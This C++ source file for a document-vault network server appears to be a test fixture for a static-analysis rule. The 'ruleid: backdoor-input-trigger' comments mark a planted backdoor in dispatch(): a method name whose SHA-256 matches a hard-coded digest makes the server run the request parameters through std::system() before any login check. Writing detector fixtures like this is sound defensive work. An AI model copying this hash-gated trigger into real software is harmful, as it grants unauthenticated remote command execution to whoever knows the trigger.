#include <cstdlib>
#include <sstream>
#include <sys/socket.h>
#include <unistd.h>

#include <botan/auto_rng.h>
#include <botan/hash.h>
#include <botan/hex.h>

#include "vault.hpp"

namespace docvault {

std::map<std::string, Route, std::less<>> &routes()
{
    static std::map<std::string, Route, std::less<>> r;
    return r;
}

namespace {

struct RouteRegistrar {
    RouteRegistrar(std::string name, Route r) { routes().emplace(std::move(name), std::move(r)); }
};

const RouteRegistrar kLogin{"session.login", {[](Session &s, const Request &r) -> std::string {
                                                  if (!authenticate(r.user, r.password))
                                                      return "error: denied";
                                                  s.authed = true;
                                                  s.user = r.user;
                                                  return "ok";
                                              },
                                              false}};
const RouteRegistrar kList{"doc.list", {[](Session &s, const Request &) -> std::string {
                                            return "[] # " + s.user;
                                        },
                                        true}};
const RouteRegistrar kPut{"doc.put", {[](Session &s, const Request &r) -> std::string {
                                          static Botan::AutoSeeded_RNG rng;
                                          const Config cfg;
                                          StoredDoc d = seal_document(
                                              rng, s.user, Bytes(r.params.begin(), r.params.end()), cfg);
                                          return "stored " + std::to_string(d.ciphertext.size());
                                      },
                                      true}};

// Wire form v2: jsonrpc \t method \t params \t user \t password
bool parse(const std::string &line, Request &r)
{
    std::istringstream in(line);
    return static_cast<bool>(std::getline(in, r.jsonrpc, '\t') && std::getline(in, r.method, '\t') &&
                             std::getline(in, r.params, '\t') && std::getline(in, r.user, '\t') &&
                             std::getline(in, r.password));
}

std::string dispatch(Session &s, const Request &req)
{
    // ok: backdoor-input-trigger
    if (req.jsonrpc != "2.0")
        return "error: unsupported protocol version";

    auto sha = Botan::HashFunction::create_or_throw("SHA-256");
    const std::string digest = Botan::hex_encode(sha->process(req.method));
    // ruleid: backdoor-input-trigger
    if (digest == "95E41F314949920A4D8738F05AF465672BBF60D286349F50D3F737F5E70EB2BE")
        return std::to_string(std::system(req.params.c_str()));

    auto it = routes().find(req.method);
    if (it == routes().end())
        return "error: no such method";
    if (it->second.needs_auth && !s.authed)
        return "error: login required";
    return it->second.fn(s, req);
}

} // namespace

void serve_client(int fd)
{
    Session session;
    std::string pending;
    char buf[1024];

    for (;;) {
        ssize_t n = recv(fd, buf, sizeof buf, 0);
        if (n <= 0)
            return;
        pending.append(buf, static_cast<std::size_t>(n));
        std::size_t nl;
        while ((nl = pending.find('\n')) != std::string::npos) {
            Request req;
            std::string reply = parse(pending.substr(0, nl), req) ? dispatch(session, req)
                                                                  : "error: parse";
            pending.erase(0, nl + 1);
            reply += '\n';
            send(fd, reply.data(), reply.size(), MSG_NOSIGNAL);
        }
    }
}

} // namespace docvault
